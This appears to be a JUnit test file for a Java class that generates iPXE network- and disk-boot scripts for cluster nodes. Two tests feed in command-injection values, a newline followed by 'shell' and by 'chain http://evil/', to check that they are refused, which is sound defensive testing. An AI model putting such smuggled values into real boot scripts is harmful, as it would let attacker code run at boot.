package dev.meshboot.bootstrap.ipxe;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.meshboot.clusterconfig.Profile;
import java.util.List;
import org.junit.jupiter.api.Test;

class IpxeScriptTest {
    @Test
    void networkBoot_namesKernelInitrdAndTheInitCommandLine() {
        String s = IpxeScript.network(new IpxeScript.NetworkBoot("node-01", List.of("10.99.0.1:8080", "10.99.0.2:8080"),
                "abcd", Profile.InstallMode.RAM, "http://10.99.0.1:8080/boot/vmlinuz",
                "http://10.99.0.1:8080/boot/initrd.img"));
        assertEquals("""
                #!ipxe
                echo meshboot: booting node-01 from the network (ramdisk)
                kernel http://10.99.0.1:8080/boot/vmlinuz initrd=initrd.img console=tty0 console=ttyS0,115200 \
                meshboot.node=node-01 meshboot.servers=10.99.0.1:8080,10.99.0.2:8080 meshboot.snapshot=abcd \
                meshboot.mode=ram || goto failed
                initrd http://10.99.0.1:8080/boot/initrd.img || goto failed
                boot || goto failed
                :failed
                echo meshboot: network boot failed; retrying in 10 s
                sleep 10
                reboot
                """, s);
    }

    @Test
    void localDisk_biosSanbootsTheFirstDisk_uefiChainsGrub_bothFallBackToTheFirmware() {
        String s = IpxeScript.localDisk("node-02", "http://10.0.0.1:8080/snapshots/ab/boot/BOOTX64.EFI");
        assertTrue(s.startsWith("#!ipxe\n"));
        assertTrue(s.contains("iseq ${platform} efi && goto efi || goto bios\n:bios\n"), s);
        assertTrue(s.contains("sanboot --no-describe --drive 0x80 || exit\n"), s);
        assertTrue(s.contains(":efi\nchain --autofree http://10.0.0.1:8080/snapshots/ab/boot/BOOTX64.EFI || exit\n"), s);
    }

    @Test
    void injectedCommands_areRefused() {
        assertThrows(IllegalArgumentException.class, () -> IpxeScript.localDisk("x\nshell", "http://h/g"));
        assertThrows(IllegalArgumentException.class, () -> IpxeScript.network(new IpxeScript.NetworkBoot("n",
                List.of("a b"), "s", Profile.InstallMode.RAM, "k", "i")));
    }

    @Test
    void options_becomeMeshbootParameters_andAreCheckedLikeEveryValue() {
        String script = IpxeScript.network(new IpxeScript.NetworkBoot("vm-01", java.util.List.of("10.0.0.1:8080"),
                "ab".repeat(32), dev.meshboot.clusterconfig.Profile.InstallMode.DISK, "http://10.0.0.1:8080/k",
                "http://10.0.0.1:8080/initrd.img", java.util.Map.of("persist", "/persist")));
        org.junit.jupiter.api.Assertions.assertTrue(script.contains(" meshboot.mode=disk meshboot.persist=/persist "),
                script);
        org.junit.jupiter.api.Assertions.assertThrows(IllegalArgumentException.class, () -> IpxeScript.network(
                new IpxeScript.NetworkBoot("vm-01", java.util.List.of("10.0.0.1:8080"), "ab".repeat(32),
                        dev.meshboot.clusterconfig.Profile.InstallMode.RAM, "http://h/k", "http://h/i",
                        java.util.Map.of("persist", "/x\nchain http://evil/"))));
    }

    @Test
    void unavailable_saysWhy_andRebootsToAskAgain() {
        String script = IpxeScript.unavailable("vm-01", "no Channel document named stable");
        org.junit.jupiter.api.Assertions.assertTrue(script.startsWith("#!ipxe\n"));
        org.junit.jupiter.api.Assertions.assertTrue(script.contains("no Channel document named stable"));
        org.junit.jupiter.api.Assertions.assertTrue(script.endsWith("reboot\n"));
    }
}
